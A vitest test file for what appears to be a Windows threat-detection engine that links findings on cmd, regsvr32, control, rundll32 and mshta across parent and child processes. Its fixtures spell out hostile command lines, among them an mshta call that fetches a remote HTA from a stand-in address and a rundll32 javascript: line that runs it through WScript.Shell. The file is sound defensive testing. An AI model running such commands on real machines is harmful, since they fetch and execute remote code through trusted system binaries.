import { describe, expect, it } from "vitest";
import { aStart } from "../../test/support/events.ts";
import { findingsOf } from "../../test/support/findings.ts";

const S32 = "C:\\Windows\\System32\\";

describe("lineage", () => {
  it("gives the finding of a wrapper to the child that is logged too", () => {
    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll");
    const inner = aStart(1, "B", `${S32}regsvr32.exe`, "regsvr32 /s C:\\ProgramData\\a.dll", "A");
    const findings = findingsOf([outer, inner]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.source.index).toBe(inner.record.index);
    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
  });

  it("reports the wrapper itself where the child is not logged", () => {
    const [finding] = findingsOf([aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll")]);
    expect(finding?.behaviour).toBe("windows/regsvr32/register");
    expect(finding?.binary.name).toBe("regsvr32.exe");
  });

  it("joins control, rundll32 and its twin to one act", () => {
    const cpl = "C:\\Users\\a\\Downloads\\t.cpl";
    const first = aStart(0, "A", `${S32}control.exe`, `control "${cpl}",`);
    const second = aStart(1, "B", `${S32}rundll32.exe`, `rundll32 Shell32.dll,Control_RunDLL "${cpl}",`, "A");
    const third = aStart(
      2,
      "C",
      "C:\\Windows\\SysWOW64\\rundll32.exe",
      `rundll32 "C:\\Windows\\SysWOW64\\shell32.dll",#44 "${cpl}",`,
      "B",
    );
    const findings = findingsOf([first, second, third]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.source.index).toBe(first.record.index);
    expect(findings[0]?.related.map(({ index, role }) => [index, role])).toEqual([
      [second.record.index, "step"],
      [third.record.index, "step"],
    ]);
  });

  it("takes rundll32 for the first step where nothing stands before it", () => {
    const cpl = "C:\\PROGRA~3\\X~1.DLL";
    const first = aStart(0, "B", `${S32}rundll32.exe`, `rundll32 shell32.dll,Control_RunDLL ${cpl} 42`);
    const line = `"C:\\Windows\\SysWOW64\\rundll32.exe" "C:\\Windows\\SysWOW64\\shell32.dll",#44 ${cpl} 42`;
    const second = aStart(1, "C", "C:\\Windows\\SysWOW64\\rundll32.exe", line, "B");
    const late = aStart(70, "D", "C:\\Windows\\SysWOW64\\rundll32.exe", line, "B");
    const findings = findingsOf([first, second, late]);
    expect(findings.map(({ source }) => source.index)).toEqual([first.record.index, late.record.index]);
    expect(findings[0]?.related).toContainEqual(expect.objectContaining({ index: second.record.index, role: "step" }));
  });

  it("leaves out what the child says where the wrapper wraps several", () => {
    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c rundll32 C:\\ProgramData\\a.dll,Run");
    const inner = aStart(1, "B", `${S32}rundll32.exe`, "rundll32 C:\\ProgramData\\a.dll,Run", "A");
    const twice = findingsOf([outer, inner, inner]);
    expect(twice).toHaveLength(1);
    expect(twice[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
  });

  it("says of a parent that is not in the log nothing that its child says by itself", () => {
    const inner = "mshta http://203.0.113.5/x.hta";
    const child = (parentCommandLine: string, image: string) =>
      aStart(0, "B", `${S32}mshta.exe`, inner, "A", { parent: { key: "id:A", image }, parentCommandLine });
    expect(findingsOf([child(`cmd /c ${inner}`, `${S32}cmd.exe`)])).toHaveLength(1);
    const script = `rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";new ActiveXObject("WScript.Shell").Run("${inner}")`;
    expect(findingsOf([child(script, `${S32}rundll32.exe`)]).map(({ behaviour }) => behaviour)).toEqual([
      "windows/mshta/remote-application",
      "windows/rundll32/script",
    ]);
  });

  it("judges a parent that is not in the log by what its child's event says", () => {
    const child = aStart(0, "B", `${S32}cmd.exe`, "cmd.exe", "A", {
      parent: { key: "id:A", image: `${S32}mshta.exe` },
      parentCommandLine: "mshta http://203.0.113.5/x.hta",
    });
    const [finding] = findingsOf([child], { minLevel: "medium" });
    expect(finding).toMatchObject({
      behaviour: "windows/mshta/remote-application",
      source: { index: child.record.index },
    });
  });
});
